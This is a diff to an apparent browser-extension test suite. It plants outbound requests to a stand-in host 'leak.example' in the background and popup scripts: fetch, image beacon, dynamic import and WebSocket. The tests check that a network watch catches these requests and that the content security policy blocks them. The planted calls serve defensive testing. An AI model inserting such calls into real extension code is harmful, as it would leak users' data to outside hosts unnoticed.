@@ -169,10 +169,11 @@ for (const name of BROWSERS) {
     });
   });
 
-  // Without this, the tests above would also pass with a blind watch.
-  test(`a planted request is noticed in ${name}`, async () => {
+  // Without this, the tests above would also pass with a blind watch, and all other files with it.
+  test(`planted requests of the background and of a page are noticed in ${name}`, async () => {
     const { extension, remove } = variantOf(name, {
-      "background/main.js": (text) => `${text}\nfetch("https://leak.example/").catch(() => {});\n`,
+      "background/main.js": (text) => `${text}\nfetch("https://leak.example/background").catch(() => {});\n`,
+      "pages/popup/popup.js": (text) => `${text}\nnew Image().src = "https://leak.example/page";\n`,
       "manifest.json": (text) => {
         const manifest = JSON.parse(text);
         manifest.content_security_policy = { extension_pages: "script-src 'self' 'wasm-unsafe-eval'" };
@@ -183,8 +184,40 @@ for (const name of BROWSERS) {
     try {
       const tab = await bench.openTab();
       await tab.visit(`https://${HOST}/`);
-      const stray = await until("the planted request", () => bench.strayRequests().find(({ host }) => host === "leak.example"));
-      assert.ok(stray);
+      for (const path of ["/background", "/page"]) {
+        await until(`the request of ${path}`, () => bench.ownRequests().some((request) => request.host === "leak.example" && request.path === path));
+      }
+      assert.ok(bench.strayRequests().some(({ host }) => host === "leak.example"));
+      await assert.rejects(bench.close(), /leak\.example/);
+    } finally {
+      remove();
+    }
+  });
+
+  test(`the browser lets neither the background nor a page of the extension ask anybody in ${name}`, async () => {
+    const asking = (/** @type {string} */ where) => `
+for (const [way, ask] of Object.entries({
+  fetch: () => fetch("https://leak.example/fetch"),
+  plain: () => fetch("http://leak.example/plain"),
+  import: () => import("https://leak.example/import.js"),
+  socket: () => new Promise((_, refuse) => { const socket = new WebSocket("wss://leak.example/socket"); socket.onerror = refuse; socket.onclose = refuse; }),
+})) {
+  let end = "refused";
+  Promise.resolve().then(ask).then(() => (end = "answered"), () => undefined)
+    .then(() => chrome.storage.session.set({ ["${where} " + way]: end }));
+}`;
+    const { extension, remove } = variantOf(name, {
+      "background/main.js": (text) => text + asking("background"),
+      "pages/popup/popup.js": (text) => text + asking("page"),
+    });
+    const bench = await startBench(name, routes, { extension });
+    try {
+      const ends = ["background", "page"].flatMap((where) => ["fetch", "plain", "import", "socket"].map((way) => [`${where} ${way}`, "refused"]));
+      await until("all ways to be refused", async () => {
+        const { session } = await bench.stored();
+        return ends.every(([key = "", end]) => /** @type {any} */ (session)[key] === end);
+      });
+      assert.deepEqual(bench.sites.requests.filter(({ host }) => host === "leak.example"), []);
     } finally {
       await bench.close();
       remove();
